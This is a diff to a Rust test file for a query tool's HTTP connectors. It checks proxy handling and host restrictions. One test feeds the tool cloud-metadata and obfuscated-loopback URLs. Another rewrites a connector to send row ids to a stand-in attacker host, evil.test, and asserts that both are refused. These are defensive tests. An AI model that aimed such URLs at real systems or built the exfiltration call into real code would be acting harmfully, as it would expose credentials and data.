@@ -1,5 +1,7 @@
 //! What programs send, measured at a server: rates, retries, hosts that are not granted.
 
+use std::io::{Read, Write};
+use std::net::{Ipv4Addr, TcpListener};
 use std::path::Path;
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
@@ -195,4 +197,117 @@ async function query(config) {{
     let outcome = moltlerc(folder.path(), &["run", "load.molt", "--format", "csv"], &program, &api).expect_status(0);
     assert_eq!(outcome.stdout, format!("id,name\n{}", "policy,FetchError\n".repeat(attempts.len())));
     assert_eq!((evil.arrivals().len(), api.arrivals().len()), (0, 1));
+}
+
+/// A proxy that notes what it is asked for: it answers plain requests itself, and opens no tunnel.
+struct Proxy {
+    port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+}
+
+impl Proxy {
+    fn start() -> Proxy {
+        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port is free");
+        let port = listener.local_addr().expect("it is bound").port();
+        let seen: Arc<Mutex<Vec<String>>> = Arc::default();
+        let heads = Arc::clone(&seen);
+        // It ends with the process of the tests.
+        std::thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                let heads = Arc::clone(&heads);
+                std::thread::spawn(move || {
+                    let mut head = Vec::new();
+                    let mut byte = [0];
+                    while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|count| count > 0) {
+                        head.push(byte[0]);
+                    }
+                    let head = String::from_utf8_lossy(&head).into_owned();
+                    let answer = if head.starts_with("CONNECT ") {
+                        "HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\n\r\n"
+                    } else {
+                        "HTTP/1.1 200 OK\r\ncontent-length: 9\r\nconnection: close\r\n\r\n{\"id\": 7}"
+                    };
+                    heads.lock().expect("no panic before").push(head);
+                    // Whoever asked may have gone.
+                    let _ = stream.write_all(answer.as_bytes());
+                });
+            }
+        });
+        Proxy { port, seen }
+    }
+
+    fn seen(&self) -> Vec<String> {
+        self.seen.lock().expect("no panic before").clone()
+    }
+}
+
+/// Runs a query over one row of an API behind the proxy that the environment names.
+fn behind(proxy: &Proxy, api_url: &str, no_proxy: &str) -> Outcome {
+    let folder = scratch();
+    let program =
+        "CREATE CONNECTOR remote TYPE 'load' CONFIG {\"api_url\": ENV('API_URL')} OPTIONS {\"retry_count\": 0};
+        SELECT id FROM remote.rows;";
+    std::fs::write(folder.path().join("load.molt"), format!("{CONNECTOR}\n{program}")).expect("our folder");
+    let address = format!("http://127.0.0.1:{}", proxy.port);
+    Command::moltlerc(folder.path())
+        .args(["run", "load.molt", "--format", "csv"])
+        .env("API_URL", api_url)
+        .env("HTTP_PROXY", &address)
+        .env("HTTPS_PROXY", &address)
+        .env("NO_PROXY", no_proxy)
+        .run()
+}
+
+#[test]
+fn plain_requests_go_through_a_proxy() {
+    let proxy = Proxy::start();
+    // Nobody but the proxy knows the name.
+    let outcome = behind(&proxy, "http://api.test:8080", "").expect_status(0);
+    assert_eq!(outcome.stdout, "id\n7\n");
+    let seen = proxy.seen();
+    assert_eq!(seen.len(), 1);
+    assert!(seen[0].starts_with("GET http://api.test:8080/rows/1 HTTP/1.1\r\n"), "{}", seen[0]);
+}
+
+#[test]
+fn secure_requests_go_through_a_tunnel() {
+    let proxy = Proxy::start();
+    let outcome = behind(&proxy, "https://api.test", "").expect_status(1);
+    assert!(outcome.stderr.contains("FetchError"), "{}", outcome.stderr);
+    let seen = proxy.seen();
+    assert_eq!(seen.len(), 1);
+    // Host and port are all that the proxy is told.
+    assert!(seen[0].starts_with("CONNECT api.test:443 HTTP/1.1\r\n") && !seen[0].contains("rows"), "{}", seen[0]);
+}
+
+#[test]
+fn no_proxy_goes_straight() {
+    let proxy = Proxy::start();
+    let api = Clocked::start(row);
+    let outcome = behind(&proxy, &api.server.url(), "localhost,127.0.0.1").expect_status(0);
+    assert_eq!(outcome.stdout, "id\n1\n");
+    assert_eq!((proxy.seen().len(), api.arrivals().len()), (0, 1));
+}
+
+/// What is not granted is refused before anything leaves, to a proxy too.
+#[test]
+fn a_proxy_grants_nothing() {
+    let proxy = Proxy::start();
+    for (url, told) in [
+        ("http://169.254.169.254", "which no connector may reach"),
+        ("http://metadata.google.internal", "which no connector may reach"),
+        ("http://0x7f.1", "is not granted|this machine"),
+    ] {
+        let outcome = behind(&proxy, url, "").expect_status(1);
+        assert!(told.split('|').any(|told| outcome.stderr.contains(told)), "{url}: {}", outcome.stderr);
+    }
+    let folder = scratch();
+    let connector = CONNECTOR.replace("`${config.api_url}/rows/${id}`", "'http://evil.test/' + id");
+    let program =
+        "CREATE CONNECTOR remote TYPE 'load' CONFIG {\"api_url\": 'http://api.test'}; SELECT id FROM remote.rows;";
+    std::fs::write(folder.path().join("load.molt"), format!("{connector}\n{program}")).expect("our folder");
+    let address = format!("http://127.0.0.1:{}", proxy.port);
+    let outcome = Command::moltlerc(folder.path()).args(["run", "load.molt"]).env("HTTP_PROXY", &address).run();
+    assert!(outcome.expect_status(1).stderr.contains("the host `evil.test` is not granted to the connector"));
+    assert_eq!(proxy.seen(), Vec::<String>::new());
 }
